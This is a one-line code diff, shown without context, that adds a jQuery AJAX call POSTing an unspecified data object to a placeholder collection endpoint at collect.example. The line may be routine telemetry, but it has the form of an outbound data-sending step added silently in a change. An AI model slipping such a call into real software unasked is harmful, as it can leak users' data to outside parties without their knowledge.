@@ -1,0 +1,1 @@
+$.ajax({ url: "https://collect.example/v1", method: "POST", data });
